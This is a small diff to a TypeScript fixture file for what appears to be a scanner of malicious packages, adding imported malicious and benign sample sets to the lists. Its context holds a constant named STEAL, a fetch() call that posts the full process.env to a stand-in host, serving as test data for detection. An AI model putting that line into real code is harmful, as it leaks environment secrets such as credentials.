@@ -1,6 +1,7 @@
 import type { Samples } from '../contract.ts';
 import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
 import { GIVEN, GIVEN_HONEST } from './given-samples.ts';
+import { configured, lookedUp } from './looked-up-samples.ts';
 import { PYTHON } from './python-samples.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
@@ -11,6 +12,7 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 
 export const samples: Samples = {
   malicious: [
+    ...lookedUp,
     ...PYTHON,
     ...GIVEN,
     {
@@ -186,6 +188,7 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    ...configured,
     ...GIVEN_HONEST,
     quiet('Python: the environment of a program that another module of the package starts', {
       ...wheel(
